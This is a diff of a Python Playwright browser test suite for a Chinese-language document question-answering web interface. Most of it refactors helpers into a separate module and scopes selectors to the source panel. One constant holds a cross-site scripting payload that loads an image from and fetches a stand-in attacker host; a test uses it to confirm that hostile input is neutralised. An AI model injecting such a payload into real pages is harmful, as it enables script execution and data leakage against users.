@@ -1,42 +1,25 @@
-"""The page in headless Chromium, with everything but this machine out of reach."""
+"""The 问答 tab in headless Chromium, with everything but this machine out of reach."""
 
 import io
 import re
-import sys
-import threading
 import time
 from collections.abc import Iterator
-from dataclasses import dataclass, field, replace
-from urllib.parse import urlsplit
+from dataclasses import replace
 
 import pytest
-import uvicorn
+from browsing import Outside, ask, colours, launched, opened, served, watched
 from conftest import CORPUS, Built
 from page_sample import Recital, make_answer, make_notice
 from PIL import Image
-from playwright.sync_api import Browser, Page, Request, Route, expect, sync_playwright
+from playwright.sync_api import Browser, Page, Route, expect
 
 from rag.address import path_label
 from rag.answer.ask import Assistant
 from rag.domain import Answer
 from rag.settings import Settings, load_settings
-from ui.app import build_app
-from ui.chat import Answering
-from ui.listen import listen, page_address
 
 pytestmark = pytest.mark.browser
 
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = (
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
-)
 DEEP_BLUE = (31, 74, 128)
 QUOTE_YELLOW = (255, 224, 138)
 HOSTILE = '<img src="http://evil.example/q.png"><script>fetch("http://evil.example/q")</script>'
@@ -51,48 +34,14 @@ class Hostile(Recital):
         yield replace(make_answer(self.notices[0], question), text=text)
 
 
-@dataclass(frozen=True, slots=True, kw_only=True)
-class Outside:
-    """What the page and the server tried to reach beyond this machine, and what ran that should not."""
-
-    page: list[str] = field(default_factory=list[str])
-    server: list[str] = field(default_factory=list[str])
-
-
 @pytest.fixture(scope="module")
 def outside() -> Iterator[Outside]:
-    found = Outside()
-    watching = True
-
-    def audit(event: str, arguments: tuple[object, ...]) -> None:
-        if watching and event in ("socket.connect", "socket.getaddrinfo"):
-            called = repr(arguments[1] if event == "socket.connect" else arguments[:2])
-            if called.startswith("(") and not called.startswith(("('127.0.0.1'", "('localhost'", "('::1'", "(None")):
-                found.server.append(f"{event} {called}")
-
-    sys.addaudithook(audit)
-    yield found
-    watching = False
+    yield from watched()
 
 
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
-    """Chromium to which no name but this machine's resolves."""
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        yield chromium
-        chromium.close()
-
-
-def served(assistant: Answering) -> Iterator[str]:
-    """The address at which `assistant` is served, until the generator is closed."""
-    with listen("127.0.0.1", 0) as listener:
-        server = uvicorn.Server(uvicorn.Config(build_app(assistant), log_level="critical", timeout_graceful_shutdown=1))
-        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
-        thread.start()
-        yield page_address(listener)
-        server.should_exit = True
-        thread.join(timeout=10)
+    yield from launched()
 
 
 @pytest.fixture(scope="module")
@@ -120,41 +69,6 @@ def page(shared_page: Page) -> Page:
     return shared_page
 
 
-def opened(browser: Browser, address: str, outside: Outside) -> Page:
-    """A new page whose requests to anywhere but its own server are refused and written down."""
-    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="zh-CN")
-    context.set_default_timeout(15_000)
-    home = urlsplit(address).netloc
-
-    def check(route: Route, request: Request) -> None:
-        if urlsplit(request.url).netloc == home or request.url.startswith(("data:", "blob:")):
-            route.continue_()
-        else:
-            outside.page.append(request.url)
-            route.abort()
-
-    context.route("**/*", check)
-    page = context.new_page()
-    page.on("dialog", lambda dialog: outside.page.append(f"dialog {dialog.message}"))
-    page.on("pageerror", lambda error: outside.page.append(f"script error {error}"))
-    page.goto(address)
-    page.locator("#pr-box textarea").wait_for()
-    return page
-
-
-def ask(page: Page, question: str, *, state: str = "done") -> None:
-    box = page.locator("#pr-box textarea")
-    box.fill(question)
-    box.press("Enter")
-    page.locator(f'#pr-live .pr-turn[data-state="{state}"]', has_text=question).wait_for()
-
-
-def colours(page: Page, selector: str) -> set[object]:
-    """The colours of the screenshot where `selector` stands."""
-    picture = Image.open(io.BytesIO(page.locator(selector).first.screenshot())).convert("RGB")
-    return {colour for _, colour in picture.getcolors(maxcolors=10**6) or ()}
-
-
 def test_the_page_is_painted_in_two_columns_without_sideways_scrolling(page: Page) -> None:
     picture = Image.open(io.BytesIO(page.screenshot())).convert("RGB")
     assert picture.size == (1440, 900)
@@ -169,25 +83,25 @@ def test_the_page_is_painted_in_two_columns_without_sideways_scrolling(page: Pag
 def test_a_click_on_a_mark_shows_the_item_in_its_place(page: Page) -> None:
     ask(page, "哪些城市给予奖补？")
     page.locator("#pr-live .pr-mark", has_text="[2]").first.click()
-    mark = page.locator(".pr-sheet mark")
+    mark = page.locator("#pr-source .pr-sheet mark")
     expect(mark).to_have_text("最高500万元")
     expect(mark).to_be_in_viewport()
-    expect(page.locator(".pr-item.is-cited")).to_have_attribute("data-path", "一（一）2")
-    expect(page.locator("#pr-where")).to_have_text("来源 2/2　一（一）2 · 建办市函〔2025〕190号")
-    expect(page.locator(".pr-text")).to_contain_text("附59. 各地应当加强组织领导")
+    expect(page.locator("#pr-source .pr-item.is-cited")).to_have_attribute("data-path", "一（一）2")
+    expect(page.locator("#pr-source .pr-where")).to_have_text("来源 2/2　一（一）2 · 建办市函〔2025〕190号")
+    expect(page.locator("#pr-source .pr-text")).to_contain_text("附59. 各地应当加强组织领导")
     page.wait_for_timeout(500)
-    assert QUOTE_YELLOW in colours(page, ".pr-sheet mark")
+    assert QUOTE_YELLOW in colours(page, "#pr-source .pr-sheet mark")
 
 
 def test_the_steps_lead_from_source_to_source(page: Page) -> None:
     ask(page, "哪些城市给予奖补？")
     page.locator("#pr-live .pr-cite").first.click()
-    expect(page.locator("#pr-previous")).to_be_disabled()
-    page.locator("#pr-following").click()
-    expect(page.locator(".pr-sheet mark")).to_have_text("最高500万元")
-    expect(page.locator("#pr-following")).to_be_disabled()
-    page.locator("#pr-previous").click()
-    expect(page.locator(".pr-sheet mark")).to_have_text("西安对试点项目给予最高10万元奖补")
+    expect(page.locator("#pr-source .pr-previous")).to_be_disabled()
+    page.locator("#pr-source .pr-following").click()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_text("最高500万元")
+    expect(page.locator("#pr-source .pr-following")).to_be_disabled()
+    page.locator("#pr-source .pr-previous").click()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_text("西安对试点项目给予最高10万元奖补")
 
 
 def test_a_keyboard_alone_asks_and_opens_a_source(page: Page) -> None:
@@ -195,20 +109,20 @@ def test_a_keyboard_alone_asks_and_opens_a_source(page: Page) -> None:
     expect(page.locator("#pr-box textarea")).to_be_focused()
     page.locator("#pr-live .pr-mark").first.focus()
     page.keyboard.press("Enter")
-    expect(page.locator(".pr-sheet mark")).to_have_text("西安对试点项目给予最高10万元奖补")
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_text("西安对试点项目给予最高10万元奖补")
     page.keyboard.press("ArrowRight")
-    expect(page.locator(".pr-sheet mark")).to_have_text("最高500万元")
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_text("最高500万元")
     page.keyboard.press("/")
     expect(page.locator("#pr-box textarea")).to_be_focused()
 
 
 def test_a_notice_is_read_from_the_list_and_jumped_through(page: Page) -> None:
-    page.locator(".pr-open").click()
-    page.locator(".pr-outline summary").click()
-    page.locator(".pr-jump").last.click()
-    expect(page.locator("#pr-item-66")).to_be_in_viewport()
-    page.locator("#pr-all").click()
-    expect(page.locator(".pr-catalog")).to_be_visible()
+    page.locator("#pr-source .pr-open").click()
+    page.locator("#pr-source .pr-outline > summary").click()
+    page.locator("#pr-source .pr-jump").last.click()
+    expect(page.locator('#pr-source [data-at="66"]')).to_be_in_viewport()
+    page.locator("#pr-source .pr-all").click()
+    expect(page.locator("#pr-source .pr-catalog")).to_be_visible()
 
 
 def test_a_new_question_comes_to_the_top_of_the_conversation(page: Page) -> None:
@@ -224,18 +138,18 @@ def test_a_new_question_comes_to_the_top_of_the_conversation(page: Page) -> None
 def test_a_new_question_takes_the_last_answers_source_out_of_the_panel(page: Page) -> None:
     ask(page, "哪些城市给予奖补？")
     page.locator("#pr-live .pr-cite").first.click()
-    expect(page.locator(".pr-sheet mark")).to_be_visible()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_be_visible()
     ask(page, "慢慢说", state="writing")
-    expect(page.locator(".pr-sheet .pr-catalog")).to_be_visible()
-    expect(page.locator(".pr-sheet mark")).to_have_count(0)
-    expect(page.locator("#pr-where")).to_have_text("原文")
-    expect(page.locator(".pr-steps")).to_be_hidden()
+    expect(page.locator("#pr-source .pr-sheet .pr-catalog")).to_be_visible()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_count(0)
+    expect(page.locator("#pr-source .pr-where")).to_have_text("原文")
+    expect(page.locator("#pr-source .pr-steps")).to_be_hidden()
     page.locator("#pr-stop").click()
     page.locator("#pr-live .pr-cite").first.click()
-    expect(page.locator(".pr-sheet mark")).to_be_visible()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_be_visible()
     page.locator("#pr-new").click()
-    expect(page.locator(".pr-sheet .pr-catalog")).to_be_visible()
-    expect(page.locator(".pr-sheet mark")).to_have_count(0)
+    expect(page.locator("#pr-source .pr-sheet .pr-catalog")).to_be_visible()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_have_count(0)
 
 
 def test_a_source_that_is_still_being_opened_does_not_come_after_a_new_question(page: Page) -> None:
@@ -250,8 +164,8 @@ def test_a_source_that_is_still_being_opened_does_not_come_after_a_new_question(
         late[0].fallback()
     page.unroute(source)
     page.wait_for_timeout(300)
-    expect(page.locator(".pr-sheet .pr-catalog")).to_be_visible()
-    expect(page.locator("#pr-where")).to_have_text("原文")
+    expect(page.locator("#pr-source .pr-sheet .pr-catalog")).to_be_visible()
+    expect(page.locator("#pr-source .pr-where")).to_have_text("原文")
 
 
 def test_an_answer_can_be_stopped_and_the_box_stays_free(page: Page) -> None:
@@ -313,7 +227,7 @@ def test_an_answer_is_copied_with_its_sources(page: Page) -> None:
     page.keyboard.press("Control+V")
     pasted = page.locator("#pr-box textarea").input_value()
     assert "西安：最高10万元奖补。[1]" in pasted
-    assert "[2] 建办市函〔2025〕190号 一（一）2" in pasted
+    assert "[2] 发展智能建造可复制经验做法清单（第四批） 建办市函〔2025〕190号 一（一）2：“最高500万元”" in pasted
 
 
 def test_a_narrow_screen_shows_the_source_over_the_conversation(page: Page) -> None:
@@ -322,8 +236,8 @@ def test_a_narrow_screen_shows_the_source_over_the_conversation(page: Page) -> N
     assert page.evaluate("document.documentElement.scrollWidth") == 390
     expect(page.locator("#pr-source")).to_be_hidden()
     page.locator("#pr-live .pr-mark").first.click()
-    expect(page.locator(".pr-sheet mark")).to_be_in_viewport()
-    expect(page.locator("#pr-close")).to_be_focused()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_be_in_viewport()
+    expect(page.locator("#pr-source .pr-close")).to_be_focused()
     page.keyboard.press("Escape")
     expect(page.locator("#pr-source")).to_be_hidden()
     expect(page.locator("#pr-live .pr-mark").first).to_be_focused()
@@ -332,36 +246,34 @@ def test_a_narrow_screen_shows_the_source_over_the_conversation(page: Page) -> N
 def test_back_closes_the_source_that_covers_a_narrow_screen(page: Page) -> None:
     page.set_viewport_size({"width": 390, "height": 844})
     ask(page, "哪些城市给予奖补？")
-    address, source, mark = page.url, page.locator("#pr-source"), page.locator("#pr-live .pr-mark").first
+    source, mark = page.locator("#pr-source"), page.locator("#pr-live .pr-mark").first
     mark.click()
     expect(source).to_be_visible()
     page.go_back()
     expect(source).to_be_hidden()
     expect(mark).to_be_focused()
-    assert page.url == address
+    assert "&n=" not in page.url
     page.go_forward()
-    expect(page.locator(".pr-sheet mark")).to_be_in_viewport()
-    page.locator("#pr-close").click()
+    expect(page.locator("#pr-source .pr-sheet mark")).to_be_in_viewport()
+    page.locator("#pr-source .pr-close").click()
     expect(source).to_be_hidden()
-    page.wait_for_function("history.state === null")
     mark.click()
-    page.locator("#pr-following").click()
+    page.locator("#pr-source .pr-following").click()
     page.keyboard.press("Escape")
     expect(source).to_be_hidden()
-    page.wait_for_function("history.state === null")
     expect(page.locator("#pr-live .pr-turn")).to_contain_text("哪些城市给予奖补？")
 
 
 def test_the_english_page_finds_its_sources_too(page: Page, address: str) -> None:
     page.locator(".pr-language").click()
-    page.wait_for_url(f"{address}en/")
+    page.wait_for_url(f"{address}en/**")
     page.locator("#pr-box textarea").wait_for()
     assert page.evaluate("document.documentElement.lang") == "en"
     ask(page, "哪些城市？")
     page.locator("#pr-live .pr-mark").first.click()
-    expect(page.locator("#pr-where")).to_have_text("Source 1/2: 一（一）1 · 建办市函〔2025〕190号")
+    expect(page.locator("#pr-source .pr-where")).to_have_text("Source 1/2: 一（一）1 · 建办市函〔2025〕190号")
     page.locator(".pr-language").click()
-    page.wait_for_url(address)
+    page.wait_for_url(f"{address}#**")
     page.locator("#pr-box textarea").wait_for()
 
 
@@ -371,7 +283,7 @@ def test_a_hostile_question_answer_and_notice_reach_nobody(browser: Browser, out
         page = opened(browser, address, outside)
         ask(page, HOSTILE)
         page.locator("#pr-live .pr-mark").first.click()
-        expect(page.locator(".pr-sheet mark")).to_be_visible()
+        expect(page.locator("#pr-source .pr-sheet mark")).to_be_visible()
         assert page.locator(".pr-turn img, .pr-turn script, .pr-turn style, .pr-turn a, .pr-panel img").count() == 0
         page.context.close()
 
@@ -386,11 +298,11 @@ def test_the_real_assistant_is_checked_in_the_real_notices(browser: Browser, out
             assert answer.citations
             for citation in (answer.citations[0], answer.citations[-1]):
                 page.locator(f'#pr-live .pr-cite[data-n="{citation.n}"]').evaluate("button => button.click()")
-                expect(page.locator("#pr-where")).to_contain_text(f" {citation.n}/{len(answer.citations)}")
-                expect(page.locator("#pr-where")).to_contain_text(path_label(citation.path))
-                marked = "".join(page.locator(".pr-sheet mark").all_inner_texts())
+                expect(page.locator("#pr-source .pr-where")).to_contain_text(f" {citation.n}/{len(answer.citations)}")
+                expect(page.locator("#pr-source .pr-where")).to_contain_text(path_label(citation.path))
+                marked = "".join(page.locator("#pr-source .pr-sheet mark").all_inner_texts())
                 assert "".join(marked.split()) == "".join(citation.quote.split())
-                expect(page.locator(".pr-sheet mark").first).to_be_in_viewport()
+                expect(page.locator("#pr-source .pr-sheet mark").first).to_be_in_viewport()
         page.context.close()
 
 
